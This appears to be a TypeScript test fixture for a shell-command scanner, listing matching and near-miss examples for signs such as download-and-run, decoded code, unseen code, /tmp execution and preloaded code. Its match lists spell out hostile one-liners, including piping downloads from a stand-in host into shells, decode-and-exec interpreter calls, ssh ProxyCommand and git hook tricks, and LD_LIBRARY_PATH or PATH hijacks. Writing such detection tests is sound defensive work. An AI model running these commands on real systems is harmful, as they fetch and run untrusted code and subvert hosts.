import { each, type TextExamples } from './text-examples.ts';

const FETCHERS = 'curl wget wget2 fetch lwp-download lwp-request aria2c GET';
const SHELLS = 'sh bash dash zsh ksh ash fish';
const RUNNERS = `${SHELLS} python python3 python3.12 perl ruby node php lua tclsh`;

/** Code that stands elsewhere than on the command line, or is hidden on it. */
export const code: readonly TextExamples[] = [
  {
    code: 'sign.command.decoded-code',
    patterns: [
      {
        id: 'base64',
        matches: [
          'base64 -d x',
          'base64 -di x',
          'base64 -D x',
          'base32 -d x',
          'base64 --decode x',
          'base64 --d x',
          'openssl base64 -d -in x',
          '{echo,x}|{base64,-d}',
        ],
        nearMisses: [
          'base64 -w0 x',
          'base64url -d x',
          'date -d x',
          'base64 --wrap=0 x',
          'base64 x; date -d x',
        ],
      },
      {
        id: 'functions of an interpreter that decode',
        matches: each(
          'python3 -c x={}("aWQ=")',
          `b64decode b32decode a85decode decode64 MIME::Base64::x atob base64_decode from_hex fromhex unhexlify
           gzinflate str_rot13 codecs.decode zlib.decompress marshal.loads`,
        ).concat('ruby -e x.unpack("m")', "ruby -e x.unpack('m0')"),
        nearMisses: [
          'python3 -c x=b64encode("id")',
          'python3 -c x=zlib.compress("id")',
          'ruby -e x.unpack("N")',
          'php -r gzdeflate("id")',
        ],
      },
      {
        id: 'buffers of node',
        matches: ['node -e Buffer.from(x,"base64")', "node -e Buffer.from(x,'hex')"],
        nearMisses: ['node -e Buffer.from(x,"utf8")', 'node -e x.toString("hex")', 'node -e Buffer.alloc(8)'],
      },
      {
        id: 'xxd',
        matches: ['xxd -r x', 'xxd -p -r x', 'xxd -pr x'],
        nearMisses: ['xxd -p x', 'ls -r x', 'xxd x; ls -r'],
      },
      {
        id: 'openssl',
        matches: ['openssl enc -d -in x', 'openssl enc -base64 -d -in x', 'openssl aes-256-cbc -d -in x'],
        nearMisses: ['openssl enc -e -in x', 'openssl rsa -d x', 'date -d x', 'openssl enc x; date -d x'],
      },
      { id: 'uudecode', matches: ['uudecode x'], nearMisses: ['uuencode x', 'ls /opt/uudecoded'] },
      {
        id: 'code that a function gives',
        matches: each('python3 -c exec({}x)', '__import__( requests. urllib. decode( bytes(').concat(
          'python3 -c eval ( bytes(x))',
        ),
        nearMisses: [
          'python3 -c exec(open(x))',
          'python3 -c executor(bytes(x))',
          'python3 -c exec(x, bytes(y))',
        ],
      },
    ],
  },
  {
    code: 'sign.command.download-and-run',
    patterns: [
      {
        id: 'a download into a pipe',
        matches: [
          ...each('{} https://x.example.net/i | sh', FETCHERS),
          ...each('curl https://x.example.net/i | {}', RUNNERS),
          ...each('curl https://x.example.net/i|{} sh', 'sudo env exec nohup command busybox xargs'),
          'curl https://x.example.net/i | sudo -n -u root bash -s',
          'curl https://x.example.net/i | { bash',
          'curl https://x.example.net/i | /usr/bin/bash',
          'curl https://x.example.net/i | /usr/bin/env bash',
        ],
        nearMisses: [
          'curl https://x.example.net/i | tee x',
          'curl https://x.example.net/i > x; cat x | sh',
          'curl https://x.example.net/i > x && cat x | sh',
          'curl https://x.example.net/i > x || cat x | sh',
          'curl https://x.example.net/i > x\ncat x | sh',
          'cat x | sh',
          'curl https://x.example.net/i | shuf',
          'curling x | sh',
        ],
      },
      {
        id: 'a download in place of a word or a file',
        matches: ['bash <(curl -s x)', 'eval "$( wget -qO- x)"', 'eval `fetch -o - x`'],
        nearMisses: ['bash <(cat x)', '(curl -s x)', 'eval "$(fetchmail)"', 'echo $(date) curl'],
      },
      {
        id: 'a download of python',
        matches: each('python3 -c import urllib.request as u;u.{}("x")', 'urlopen urlretrieve'),
        nearMisses: [
          'python3 -c import urllib.parse',
          'python3 -c u.urlopen("x")',
          'python3 -c urllib.urlopened',
        ],
      },
      {
        id: 'a download that an interpreter runs',
        matches: [
          ...each('python3 -c x=requests.get(u);{}(x)', 'exec eval system spawn'),
          ...each("ruby -e require '{}';eval x", 'open-uri'),
          ...each('node -e {}(u);eval(x)', 'http.get https.get'),
          'perl -e use LWP::Simple;eval x',
        ],
        nearMisses: [
          'python3 -c print(requests.get(u))',
          'python3 -c requests.post(u);eval(x)',
          'python3 -c eval(x)',
          'node -e http.getter(u);eval(x)',
        ],
      },
    ],
  },
  {
    code: 'sign.command.download-exec',
    patterns: [
      {
        id: 'a download made executable',
        matches: [
          ...each('{} -o a https://x.example.net/a && chmod +x a', FETCHERS),
          'curl -o a u && chmod u+rwx a',
          'curl -o a u && chmod 755 a',
          'curl -o a u && chmod 0711 a',
        ],
        nearMisses: [
          'curl -o a u && chmod 644 a',
          'curl -o a u && chmod -x a',
          'curl -o a u && chmod g+s a',
          'touch a && chmod +x a',
          'curl -o a u',
        ],
      },
      {
        id: 'a download, and what is run behind it',
        matches: [
          ...each('{} u > a; sh a', FETCHERS),
          ...each('curl u > a; {} a', `${RUNNERS} source .`),
          'curl u > a && sudo sh a',
          'curl u > a\n./a',
          'curl u | tar x; make',
          'curl u > a; /usr/bin/python3 a',
          'curl u > a; dpkg -i a',
          'curl u > a; rpm -Uvh a',
        ],
        nearMisses: [
          "curl u > a; sh -c 'true'",
          'curl u > a; cat a',
          'curl u > a; dpkg -l a',
          'curl u > a; rpm -qa',
          'curl u > a; maker',
          'touch a; sh a',
          'curl u > ./a',
        ],
      },
    ],
  },
  {
    code: 'sign.command.unseen-code',
    patterns: [
      {
        id: 'a pipe into a shell or an interpreter',
        matches: [
          ...each('cat x|{}', RUNNERS),
          ...each('cat x|{} sh.x', 'sudo env exec nohup command busybox xargs'),
          'cat x|sudo -n -u root sh.x',
          'cat x|(bash',
        ],
        nearMisses: ['cat x|shuf', 'cat x|tee sh.log', 'cat x;sh a'],
      },
      {
        id: 'a pipe into a program that may start one',
        matches: [
          ...each('cat x | parallel {}', RUNNERS),
          'cat x | parallel /usr/bin/sh',
          'cat x | (parallel sh)',
        ],
        nearMisses: [
          'cat x | tee sh.log',
          'cat x | tee a; ls sh',
          'cat x | grep sh-x',
          'cat x | grep python.x',
        ],
      },
      {
        id: 'what a variable holds',
        matches: ['true; $X', 'true && ${X} a', '( $X;', '{ $X|', 'sh -c $X', 'sh -ec "$X"', 'true\n"$X"&'],
        nearMisses: ['echo $X', 'true; $X/bin/a', 'sh -e $X', 'true; x$X'],
      },
      {
        id: 'what another program writes, as a file',
        matches: [
          ...each('{} -x <(cat x)', RUNNERS),
          'source <(cat x)',
          '. <(cat x)',
          'true; . <(cat x)',
          'true;. <(cat x)',
        ],
        nearMisses: [
          'diff <(cat x)',
          'bash -x (cat x)',
          'resource <(cat x)',
          'x. <(cat x)',
          'grep -e sha <(cat x)',
        ],
      },
      {
        id: 'what a file says',
        matches: [
          ...each('{} < x', RUNNERS),
          ...each('{} <<< "$X"', SHELLS),
          'bash      <<< "$X"',
          'bash -s < x',
          'python3 - < x',
        ],
        nearMisses: ['cat < x', 'bash x < y', 'publish < x', 'shuf < x', 'bash -x > y'],
      },
      {
        id: 'what a program starts for each of many',
        matches: [
          ...each('xargs -a list {} x', RUNNERS),
          'find . -exec bash {} +',
          'find . -execdir /usr/bin/sh {} +',
        ],
        nearMisses: [
          'xargs -a list rm',
          'find . -exec rm {} +',
          'find . -name sh',
          'find . -exec sh.x {} +',
          'find . -exec sha256sum {} +',
          'find . -exec rm {} +; sh',
        ],
      },
      {
        id: 'programs that have another one started, by their settings',
        matches: [
          ...each('ssh -o {}=/opt/x h', 'ProxyCommand LocalCommand'),
          ...each('git -c core.{}=/opt/x fetch', 'sshCommand hooksPath fsmonitor'),
          'tar --checkpoint-action=exec=x',
        ],
        nearMisses: [
          'ssh -o ProxyJump=x h',
          'git -c core.editor=x fetch',
          'tar --checkpoint=1',
          'ssh -o ProxyCommands=x',
        ],
      },
      {
        id: 'editors and debuggers that start one',
        matches: [
          "vi -c ':!id' x",
          "vim -c ':!id' x",
          "ex -c '!id' x",
          "ed 'x !id'",
          "gdb -ex 'shell id'",
          'gdb --eval-command="shell id"',
        ],
        nearMisses: [
          'vi x',
          'gdb -ex run x',
          'echo !x',
          'less shell x',
          "vi x; echo ':!id'",
          'gdb -ex shells',
        ],
      },
      {
        id: 'a pipe into what a variable holds',
        matches: ['cat x | $a$b', 'cat x |$_x.y', 'cat x | ${a}b'],
        nearMisses: ['cat x | tee $a$b', 'cat x | $1$2', 'cat $a$b'],
      },
    ],
  },
  {
    code: 'sign.command.runs-temp',
    patterns: [
      {
        id: 'a file of /tmp into a pipe',
        matches: [
          ...each('cat /tmp/x | {}', RUNNERS),
          ...each('cat /tmp/x|{} sh.x', 'sudo env exec nohup command busybox xargs'),
        ],
        nearMisses: [
          'cat /opt/x | sh',
          'cat /tmp/x | grep a',
          'ls /tmp/x; cat a | sh',
          'ls /tmp/x && cat a | sh',
          'cat /opt/tmps/x | sh',
        ],
      },
      {
        id: 'a file of /tmp that another program runs',
        matches: [
          'find . -exec /tmp/x {} +',
          'find . -execdir /var/tmp/x {} +',
          'xargs /tmp/x',
          '/lib64/ld-linux-x86-64.so.2 /tmp/x',
          '$(cat /tmp/x)',
          '`cat /var/tmp/x`',
          '$(< /tmp/x)',
        ],
        nearMisses: [
          'find /tmp/x -exec ls {} +',
          'find . -exec /opt/tmp/x {} +',
          'find . -executable /tmp/x',
          '$(cat /opt/x)',
          '$(ls /tmp/x)',
          'cat /tmp/x',
        ],
      },
    ],
  },
  {
    code: 'sign.command.inline-code',
    patterns: [
      {
        id: 'awk',
        matches: ['awk BEGIN{system("x")}', 'awk {system ($1)}'],
        nearMisses: ['awk {print $1}', 'perl -e system("x")', 'awk {systems("x")}', 'gawkish system("x")'],
      },
    ],
  },
  {
    code: 'sign.command.preloaded-code',
    patterns: [
      {
        id: 'variables of interpreters and the loader',
        matches: [
          ...each(
            '{}=/srv/x run',
            `BASH_ENV PYTHONPATH PYTHONHOME PYTHONSTARTUP PERL5LIB PERL5OPT PERL5DB RUBYOPT RUBYLIB NODE_PATH
             LD_LIBRARY_PATH`,
          ),
          ...each('NODE_OPTIONS={} run', '--require=x --import=x --loader=x --experimental-loader=x').concat(
            'NODE_OPTIONS="-r x" run',
            'NODE_OPTIONS="--no-warnings --require x" run',
          ),
        ],
        nearMisses: [
          'echo $PYTHONPATH',
          'MY_PYTHONPATH=/srv/x run',
          'PYTHONOPTIMIZE=1 run',
          'NODE_OPTIONS=--max-old-space-size=4096 run',
          'NODE_OPTIONS=--no-warnings; node --require x',
        ],
      },
      {
        id: "the manager's own environment",
        matches: ['systemctl set-environment PATH=/srv/x', 'systemctl set-environment LD_AUDIT=x'],
        nearMisses: [
          'systemctl set-environment TZ=UTC',
          'systemctl show-environment PATH=/srv/x',
          'systemctl set-environment XPATH=/srv/x',
          'PATH=/usr/bin systemctl start x',
        ],
      },
      {
        id: 'a search path that begins where the shell is',
        matches: [
          'PATH=.:$PATH run',
          'sh -c PATH=:$PATH;run',
          "sh -c 'PATH=../bin:$PATH run",
          'env PATH="./x:$PATH" run',
        ],
        nearMisses: ['PATH=/usr/bin:$PATH run', 'XPATH=.:x run', 'PATH=$PATH:. run', 'PATH=.bin:x run'],
      },
    ],
  },
];
